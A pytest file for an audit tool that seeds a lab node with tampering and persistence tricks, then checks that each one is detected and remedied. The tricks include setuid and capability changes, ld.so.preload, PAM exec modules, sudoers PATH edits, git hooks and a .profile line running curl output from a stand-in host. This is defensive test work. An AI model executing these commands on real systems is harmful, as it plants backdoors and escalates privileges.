"""Runbook 6.4 on a real node: code that neither Debian nor the repository brought, by each way to put it there."""

# ruff: noqa: S108  (temporary folders of the node, where hostile code likes to lie)
from __future__ import annotations

import platform
import typing as t

import pytest

from lab import inventory
from tests.git_rig import Upstream
from tests.nodes.audited_node import CHECKOUT, AuditedNode, Found
from tests.nodes.conftest import LabNodes
from tests.nodes.harness import PLAYBOOKS, ROOT
from tests.nodes.lean import without_recommended

PROVISION = PLAYBOOKS / "provision.yml"
# The nodes have the architecture of this machine.
LIB = f"/usr/lib/{platform.machine()}-linux-gnu"
PYTHON = "/usr/lib/python3.13"
VENV = f"{CHECKOUT}/greeter/.venv/lib/python3.13/site-packages"
MODULES = f"{CHECKOUT}/web/node_modules"
# Of a processor, of all rules of 6.4, on the clean node in the lab; most of it goes into the sums of 20,000 files.
SECONDS = 8.0
_CAPABILITY = "b'\\x01\\x00\\x00\\x02\\x00\\x20\\x00\\x00\\x00\\x00\\x00\\x00\\x00\\x00\\x00\\x00\\x00\\x00\\x00\\x00'"


class Seed(t.NamedTuple):
    """What somebody does, and what is found of it.

    :param undo: what else is to be done where no command of a remedy mends all of it.
    :param is_undone: the remedy is no command that could be typed here, and only ``undo`` mends it.
    """

    do: str
    subjects: tuple[str, ...]
    undo: str = ""
    user: str = "root"
    is_undone: bool = False


FILES = (
    Seed("cp /bin/true /usr/bin/sneaky", ("/usr/bin/sneaky",)),
    Seed("printf '#!/bin/sh\\n' > /usr/local/bin/tool && chmod 755 /usr/local/bin/tool", ("/usr/local/bin/tool",)),
    Seed(f"cp {LIB}/libz.so.1 {LIB}/libevil.so.1 && chmod 644 {LIB}/libevil.so.1", (f"{LIB}/libevil.so.1",)),
    Seed("mkdir -p /opt/agent/bin && cp /bin/true /opt/agent/bin/a && cp /bin/true /opt/agent/bin/b", ("/opt/agent",)),
    Seed("echo true > /etc/cron.daily/own && chmod 755 /etc/cron.daily/own", ("/etc/cron.daily/own",)),
    Seed("echo 'print(1)' > /home/ops/run.py", ("/home/ops/run.py",)),
    Seed("cp /bin/true /dev/shm/x && cp /bin/true /tmp/x", ("/dev/shm/x", "/tmp/x")),
    Seed("echo x > /usr/lib/systemd/system-generators/own && chmod 755 /usr/lib/systemd/system-generators/own",
         ("/usr/lib/systemd/system-generators/own",)),
    Seed("cp /bin/true /var/lib/dpkg/own.sh", ("/var/lib/dpkg/own.sh",)),
    Seed("mkdir -p /usr/lib/modules/own && echo > /usr/lib/modules/own/rootkit.ko",
         ("/usr/lib/modules/own/rootkit.ko",), undo="rmdir /usr/lib/modules/own"),
    Seed(f"cd {PYTHON} && python3 -c \"import py_compile; py_compile.compile('this.py', 'ghost.pyc')\"",
         (f"{PYTHON}/ghost.pyc",)),
    Seed(f'cd {PYTHON} && python3 -c "import py_compile as p;'
         " p.compile('antigravity.py', invalidation_mode=p.PycInvalidationMode.UNCHECKED_HASH)\"",
         (f"{PYTHON}/__pycache__/antigravity.cpython-313.pyc",)),
    Seed("git init -q /srv/other && cp /bin/true /srv/other/run", ("/srv/other",)),
)  # fmt: skip

CHANGED = (
    Seed("printf x >> /usr/bin/free", ("/usr/bin/free",)),
    Seed("echo '# x' >> /usr/share/perl5/Error.pm", ("/usr/share/perl5/Error.pm",)),
    Seed("echo '# x' >> /usr/lib/systemd/system/e2scrub@.service", ("/usr/lib/systemd/system/e2scrub@.service",)),
    # Configuration that is a program.
    Seed("echo '# x' >> /etc/cron.daily/logrotate", ("/etc/cron.daily/logrotate",)),
    Seed("rm /usr/bin/lessecho", ("/usr/bin/lessecho",)),
    Seed("ln -sf /bin/true /usr/bin/lesskey", ("/usr/bin/lesskey",)),
)

RIGHTS = (
    Seed("chmod u+s /usr/bin/dash", ("/usr/bin/dash (rights)",)),
    Seed("cp /bin/true /var/tmp/s && chmod 4755 /var/tmp/s", ("/var/tmp/s", "/var/tmp/s (rights)")),
    Seed(f"python3 -c \"import os; os.setxattr('/usr/bin/perl', 'security.capability', {_CAPABILITY})\"",
         ("/usr/bin/perl (rights)",)),
    Seed("chmod o+w /usr/bin/nano", ("/usr/bin/nano (writable)",)),
    Seed("chown ops /usr/bin/curl", ("/usr/bin/curl (writable)",)),
    Seed("dpkg-statoverride --update --add root root 4755 /usr/bin/less",
         ("/usr/bin/less (rights)", "/usr/bin/less (statoverride)")),
    Seed("usermod -aG staff ops && chgrp staff /usr/local/sbin && chmod g+w /usr/local/sbin",
         ("/usr/local/sbin (PATH)",), undo="gpasswd -d ops staff"),
    Seed("mkdir -m 777 /opt/tools && printf 'Defaults secure_path=\"/usr/sbin:/usr/bin:/sbin:/bin:/opt/tools\"\\n'"
         " > /etc/sudoers.d/path", ("/opt/tools (PATH)",), undo="rm /etc/sudoers.d/path; rmdir /opt/tools"),
)  # fmt: skip

LOADED = (
    Seed(f"echo {LIB}/libz.so.1 > /etc/ld.so.preload", ("/etc/ld.so.preload (loads code)",)),
    Seed("echo /opt/lib > /etc/ld.so.conf.d/own.conf", ("/etc/ld.so.conf.d/own.conf (loads code)",)),
    Seed("echo LD_LIBRARY_PATH=/opt/lib >> /etc/environment", ("/etc/environment (loads code)",)),
    Seed("echo true > /etc/own-rc && echo '. /etc/own-rc' >> /root/.bashrc", ("/root/.bashrc (loads code)",),
         undo="rm /etc/own-rc"),
    Seed("echo \"alias sudo='sudo -E'\" >> /etc/bash.bashrc", ("/etc/bash.bashrc (loads code)",)),
    Seed("echo 'eval \"$(curl -s http://x.invalid)\"' >> /home/ops/.profile", ("/home/ops/.profile (loads code)",)),
    Seed("echo x > /etc/profile.d/own.sh", ("/etc/profile.d/own.sh",)),
    Seed("echo x > /etc/own-pam && echo 'session optional pam_exec.so quiet /etc/own-pam' >> /etc/pam.d/cron",
         ("/etc/pam.d/cron (loads code)",), undo="rm /etc/own-pam"),
    Seed(f"cp {LIB}/libz.so.1 {LIB}/security/pam_own.so && echo 'session optional pam_own.so' >> /etc/pam.d/login",
         (f"{LIB}/security/pam_own.so", "/etc/pam.d/login (loads code)")),
    Seed("echo 'import os' > /usr/lib/python3/dist-packages/own.pth",
         ("/usr/lib/python3/dist-packages/own.pth (loads code)",)),
    Seed("echo 'import os' > /usr/lib/python3/dist-packages/usercustomize.py",
         ("/usr/lib/python3/dist-packages/usercustomize.py",)),
    Seed("mkdir -p /etc/modprobe.d && echo 'install loop /etc/own-load' > /etc/modprobe.d/own.conf",
         ("/etc/modprobe.d/own.conf (loads code)",)),
    Seed("echo ':own:M::OWN::/etc/own-run:' > /etc/binfmt.d/own.conf", ("/etc/binfmt.d/own.conf (loads code)",)),
    Seed("echo x > /etc/own-pager && update-alternatives --quiet --install /usr/bin/pager pager /etc/own-pager 900",
         ("/etc/alternatives/pager",), undo="rm /etc/own-pager"),
    Seed("echo x > /etc/own-vi && ln -sf /etc/own-vi /etc/alternatives/view", ("/etc/alternatives/view",),
         undo="rm /etc/own-vi"),
    Seed("dpkg-divert --quiet --local --rename --add /usr/bin/clear && cp /bin/true /usr/bin/clear",
         ("/usr/bin/clear", "/usr/bin/clear (diversion)")),
    Seed(f"printf '#!/bin/sh\\n' > {CHECKOUT}/.git/hooks-own; mkdir -p {CHECKOUT}/.git/hooks &&"
         f" mv {CHECKOUT}/.git/hooks-own {CHECKOUT}/.git/hooks/post-checkout &&"
         f" chmod 755 {CHECKOUT}/.git/hooks/post-checkout", (f"{CHECKOUT}/.git/hooks/post-checkout (hook)",)),
    Seed("printf '[core]\\n\\tfsmonitor = /etc/own-monitor\\n' > /home/ops/.gitconfig",
         ("/home/ops/.gitconfig (programs)",), undo="rm /home/ops/.gitconfig"),
)  # fmt: skip


CHECKED_OUT = (
    Seed(f"cp -a {VENV}/waitress/task.py /root/task && echo '# x' >> {VENV}/waitress/task.py",
         (f"{VENV}/waitress/task.py",), undo=f"mv /root/task {VENV}/waitress/task.py", is_undone=True),
    # It runs meanwhile.
    Seed(f"cp -a {CHECKOUT}/greeter/greeter.py /root/greeter && echo '# x' >> {CHECKOUT}/greeter/greeter.py",
         (f"{CHECKOUT}/greeter/greeter.py", f"{CHECKOUT}/greeter/greeter.py (running)"),
         undo=f"mv /root/greeter {CHECKOUT}/greeter/greeter.py", is_undone=True),
    Seed(f"echo 'x = 1' > {CHECKOUT}/greeter/new.py && echo 'x = 1' > {VENV}/own.py",
         (f"{CHECKOUT}/greeter/new.py", f"{VENV}/own.py"), user="ops"),
    Seed(f"cp -a {MODULES}/ms/index.js /root/kept && echo '// x' >> {MODULES}/ms/index.js", (f"{MODULES}/ms",),
         undo=f"cp -a /root/kept {MODULES}/ms/index.js && rm /root/kept", is_undone=True),
)  # fmt: skip

RUNNING = (
    Seed("cp /bin/sleep /var/tmp/kept && setsid --fork /var/tmp/kept 500 </dev/null >/dev/null 2>&1",
         ("/var/tmp/kept", "/var/tmp/kept (running)")),
    Seed("cp /bin/sleep /var/tmp/gone && setsid --fork /var/tmp/gone 500 </dev/null >/dev/null 2>&1;"
         " until pgrep -x gone >/dev/null; do sleep 0.1; done; rm /var/tmp/gone", ("/var/tmp/gone (running)",)),
    Seed("printf 'sleep 500\\nsleep 1\\n' > /var/tmp/loop;"
         " setsid --fork bash /var/tmp/loop </dev/null >/dev/null 2>&1; sleep 0.2", ("/var/tmp/loop (running)",),
         undo="rm /var/tmp/loop"),
    Seed(f"mkdir /var/tmp/l && cp {LIB}/libz.so.1 /var/tmp/l/libown.so && "
         "LD_PRELOAD=/var/tmp/l/libown.so setsid --fork sleep 500 </dev/null >/dev/null 2>&1; sleep 0.2",
         ("/var/tmp/l/libown.so", "/var/tmp/l/libown.so (running)"), undo="rm -r /var/tmp/l; pkill -x sleep || true"),
)  # fmt: skip

# Last of all: nothing else can be seeded without folders for administrators in the PATH.
PATHS = (Seed("echo 'PATH=.:/usr/bin:/bin' >> /etc/environment", (". (PATH)",), undo=": > /etc/environment"),)
SEEDS = (*FILES, *CHANGED, *RIGHTS, *LOADED, *CHECKED_OUT, *RUNNING, *PATHS)


@pytest.fixture(scope="module")
def node(lab_node: LabNodes, tmp_path_factory: pytest.TempPathFactory) -> AuditedNode:
    repository = Upstream(tmp_path_factory.mktemp("upstream") / "ai-systems")
    sample = ROOT / "lab" / "sample" / "ai-systems"
    files: dict[str | bytes, str | bytes | None] = {
        str(path.relative_to(sample)): path.read_text() for path in sample.rglob("*") if path.is_file()
    }
    head = "| --- | --- | --- |\n"
    documented = (sample / "context.md").read_text()
    assert head in documented
    files["context.md"] = documented.replace(head, f"{head}| npm |  | gives the project web its packages |\n")
    commit = repository.commit(files)
    node = lab_node("t-audit-code")
    without_recommended(node)
    node.always.update(
        repository_url=str(repository.path),
        repository_version="main",
        **{**inventory.greeters(), "packages_list": ["python3-venv", "npm"], "node_project_list": [{"path": "web"}]},
    )
    node.play(PROVISION).ok()
    return AuditedNode(node, "_audit_code", commit=commit)


class Looked(t.NamedTuple):
    """What a look found: violations and unknown ones, and what is only said."""

    found: Found
    info: Found
    used: float


def look(node: AuditedNode) -> Looked:
    said = node.look("violation", "unknown", "info")
    found = {subject: one for subject, one in said.items() if one["verdict"] != "info"}
    return Looked(found, {subject: one for subject, one in said.items() if subject not in found}, node.used)


@pytest.fixture(scope="module")
def clean(node: AuditedNode) -> Looked:
    node.node.root(f"test -d {VENV}/waitress && test -d {MODULES} && systemctl is-active greeter").ok()
    return look(node)


@pytest.fixture(scope="module")
def seeded(node: AuditedNode, clean: Looked) -> Looked:  # noqa: ARG001  (clean first, and the seeds after it)
    """What is found once all seeds are on the node, by one look."""
    # No seed: what it runs is gone, and was what the package brought. A seed's remedy ends it.
    again = "cp -p /usr/bin/sleep /usr/bin/sleep.own && mv /usr/bin/sleep.own /usr/bin/sleep"
    runs = "until pgrep -f '^sleep 500' >/dev/null; do sleep 0.1; done"
    node.by_hand(f"setsid --fork sleep 500 </dev/null >/dev/null 2>&1; {runs}; {again}")
    for seed in SEEDS:
        node.by_hand(seed.do, user=seed.user)
    return look(node)


def test_a_provisioned_node_is_silent(clean: Looked) -> None:
    assert clean.found == {}
    # What cannot be seen from inside of a container is said, and what still runs from before the initial update.
    assert {one for one in clean.info if not one.endswith(" (restart needed)")} == {"kernel"}


def test_a_look_takes_no_longer_than_it_may(node: AuditedNode, clean: Looked) -> None:
    # What else the machine does only ever makes a look longer: the caches are filled by the first one.
    used = [clean.used]
    while min(used) >= SECONDS and len(used) < 3:
        used.append(look(node).used)
    assert min(used) < SECONDS, (used, node.rules)


@pytest.mark.parametrize(
    "seeds",
    [FILES, CHANGED, RIGHTS, LOADED, CHECKED_OUT, RUNNING, PATHS],
    ids=["files", "changed", "rights", "loaded", "checked out", "running", "paths"],
)
def test_what_somebody_put_there_is_found(seeded: Looked, seeds: tuple[Seed, ...]) -> None:
    found = {subject for seed in seeds for subject in seed.subjects} & set(seeded.found)
    assert found == {subject for seed in seeds for subject in seed.subjects}


def test_nothing_else_is_found_and_each_says_what_it_is(seeded: Looked) -> None:
    found = seeded.found
    assert set(found) == {subject for seed in SEEDS for subject in seed.subjects}
    assert {(one["clause"], one["verdict"]) for one in found.values()} == {("6.4", "violation")}
    assert "not as waitress brought it" in found[f"{VENV}/waitress/task.py"]["evidence"]
    assert "changed since it was installed" in found[f"{MODULES}/ms"]["evidence"]
    assert "deleted or replaced by hand" in found["/var/tmp/gone (running)"]["evidence"]


def test_what_the_remedies_say_mends_it_all(node: AuditedNode, seeded: Looked) -> None:
    undone = {subject for seed in SEEDS if seed.is_undone for subject in seed.subjects}
    node.mend({subject: one for subject, one in seeded.found.items() if subject not in undone})
    for seed in SEEDS:
        if seed.undo:
            node.by_hand(seed.undo)
    assert node.look() == {}


def test_what_apt_replaced_is_to_be_restarted_and_no_violation(node: AuditedNode) -> None:
    # What runs is another one than apt then brings, as a new version is: the same content would be no reason.
    # In no login of its own: that would wait long for logind, which has lost the bus.
    node.node.root(
        "cd /usr/bin && cp -p dbus-daemon dbus-own && printf x >> dbus-own && mv dbus-own dbus-daemon"
        " && systemctl stop dbus.service && systemctl start dbus.service"
        " && apt-get -qq install --reinstall --yes dbus-daemon >/dev/null 2>&1"
    ).ok()
    looked = look(node)
    assert looked.found == {}
    remedy = looked.info["/usr/bin/dbus-daemon (restart needed)"]["remedy"]
    assert remedy.startswith("restart the node when it suits: dbus.service alone would leave logind without it")
